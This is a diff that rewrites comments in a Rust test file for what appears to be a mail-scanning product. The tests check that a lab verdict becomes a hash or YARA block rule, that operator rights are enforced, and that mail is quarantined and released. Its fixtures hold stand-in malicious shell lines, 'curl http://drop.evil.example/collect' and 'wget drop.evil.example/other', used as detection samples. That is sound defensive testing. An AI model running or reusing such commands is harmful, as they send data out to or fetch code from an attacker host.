@@ -1,4 +1,4 @@
-//! What the lab finds becomes a rule for mail at a click: from the sample's page to the quarantine, and back.
+//! Tests that a finding of the lab becomes a rule for mail with one click: from the sample's page to the quarantine, and back.
 
 use crate::console::visitor::Visitor;
 use crate::control::gate::{Client, Site, Up, wait_for};
@@ -6,10 +6,10 @@ use base64::Engine;
 use std::fs;
 use std::os::unix::fs::PermissionsExt;
 
-/// No scanner knows this file; a plugin of the lab does.
+/// A file that no scanner knows, but a plugin of the lab does.
 const CONTENT: &str = "#!/bin/sh\n# a quiet thief\ncurl http://drop.evil.example/collect\n";
 
-/// A plugin that knows the thief.
+/// A plugin that recognises this file.
 const JUDGE: &str = r#"#!/bin/sh
 if grep -q thief input/attachment; then level=malicious; else level=safe; fi
 echo '{"success":true,"summary":{"taxonomies":[{"level":"'$level'","namespace":"judge","predicate":"is","value":"a thief"}]},
@@ -30,7 +30,7 @@ fn site() -> (Site, tempfile::TempDir) {
     (Site::new(&settings), plugins)
 }
 
-/// Sends the file to somebody; each has a Maildir.
+/// Sends the file to somebody; every address has a Maildir.
 fn send(up: &Up, to: &str, content: &str) {
     let mut client = Client::login(&up.plain, "bulk", "a long password").expect("the program logs in");
     let encoded = base64::engine::general_purpose::STANDARD.encode(content);
@@ -53,7 +53,7 @@ fn a_file_is_blocked_in_mail_at_a_click_and_passes_again_when_the_rule_is_remove
     let up = site.up();
     let add = ["user", "add", "bulk", "--address", "bulk@localhost", "--profile", "exempt", "--password-stdin"];
     site.weir_with(&add, "a long password\n").ok();
-    // Nobody knows it yet.
+    // There is no rule for it yet.
     send(&up, "ann@localhost", CONTENT);
     site.arrived("ann@localhost", 1);
     let file = site.home().join("notes");
@@ -61,7 +61,7 @@ fn a_file_is_blocked_in_mail_at_a_click_and_passes_again_when_the_rule_is_remove
     let sample = site.json(&["lab", "submit", file.to_str().expect("text")])[0]["sample"].to_string();
     wait_for("the verdict", || (site.json(&["lab", "report", &sample])["verdict"] == "malicious").then_some(()));
 
-    // The page says what it is, and has the button.
+    // The page says what the sample is, and has the button.
     let console = format!("http://{}", up.listener("console"));
     let admin = Visitor::log_in(&console, &[], ("admin", &up.admin_password()));
     let here = format!("/lab/samples/{sample}");
@@ -74,7 +74,7 @@ fn a_file_is_blocked_in_mail_at_a_click_and_passes_again_when_the_rule_is_remove
     let done = admin.post(&here, "/rules/add", &[("what", "hash"), ("sample", &sample)]);
     assert!(done.contains("does not pass from now on") && done.contains("This file is blocked in mail by"), "{done}");
 
-    // At once, and although the scan has seen this very message before.
+    // The rule works at once, even though the scan has seen this very message before.
     send(&up, "bob@localhost", CONTENT);
     send(&up, "ann@localhost", CONTENT);
     wait_for("two mails in quarantine", || (quarantined(&site) == 2).then_some(()));
@@ -95,7 +95,7 @@ fn a_file_is_blocked_in_mail_at_a_click_and_passes_again_when_the_rule_is_remove
     send(&up, "bob@localhost", CONTENT);
     wait_for("three mails in quarantine", || (quarantined(&site) == 3).then_some(()));
 
-    // Removed, it passes again.
+    // After the rule is removed, the file passes again.
     let removed = site.weir(&["scan", "rules", "remove", &rule]).ok();
     assert!(removed.contains("no longer in force"), "{removed}");
     send(&up, "ann@localhost", CONTENT);
@@ -118,13 +118,13 @@ fn what_a_sample_reaches_becomes_a_rule_of_yara_that_is_shown_before_it_is_saved
     wait_for("the verdict", || (site.json(&["lab", "report", &sample])["verdict"] == "malicious").then_some(()));
     let console = format!("http://{}", up.listener("console"));
     let here = format!("/lab/samples/{sample}");
-    // An operator blocks single files, and no more.
+    // An operator can block single files, but nothing more.
     let operator = Visitor::log_in(&console, &[], ("olga", &olga));
     let page = operator.get(&here);
     assert!(page.contains("Block this file in mail") && !page.contains("<textarea"), "{page}");
     let refused = operator.post(&here, "/rules/add", &[("what", "yara"), ("yara", "rule x { condition: true }")]);
     assert!(refused.contains("Only administrators can make and remove"), "{refused}");
-    // An administrator sees the text, and what does not compile is not saved.
+    // An administrator sees the text of the rule, and a rule that does not compile is not saved.
     let admin = Visitor::log_in(&console, &[], ("admin", &up.admin_password()));
     let page = admin.get(&here);
     let (_, text) = page.split_once("<textarea").expect("a text");
@@ -138,7 +138,7 @@ fn what_a_sample_reaches_becomes_a_rule_of_yara_that_is_shown_before_it_is_saved
     assert!(wrong.contains("Not done."), "{wrong}");
     let saved = admin.post(&here, "/rules/add", &[("what", "yara"), ("sample", &sample), ("yara", &text)]);
     assert!(saved.contains("finds something does not pass"), "{saved}");
-    // Another file that reaches for the same place.
+    // Another file that uses the same address.
     send(&up, "ann@localhost", "wget drop.evil.example/other\n");
     wait_for("one mail in quarantine", || (quarantined(&site) == 1).then_some(()));
     assert_eq!(site.json(&["quarantine", "list"])["entries"][0]["queue"], "ext");
@@ -167,7 +167,7 @@ fn rules_are_made_at_rest_and_refused_with_a_reason() {
     site.weir(&["scan", "rules", "add", "--yara", "/no/such/file"]).refused(&["/no/such/file"]);
     site.weir(&["scan", "rules", "remove", "99"]).refused(&["there is no rule"]);
     assert_eq!(site.json(&["scan", "rules", "list"]).as_array().map(Vec::len), Some(1));
-    // A file of mail is still only looked at.
+    // The file of a mail can still be scanned without a gate.
     let mail = site.home().join("mail.eml");
     fs::write(&mail, "Subject: x\r\n\r\nhello\r\n").expect("a mail");
     let scanned = crate::harness::weir(&["scan", mail.to_str().expect("text")]).ok();
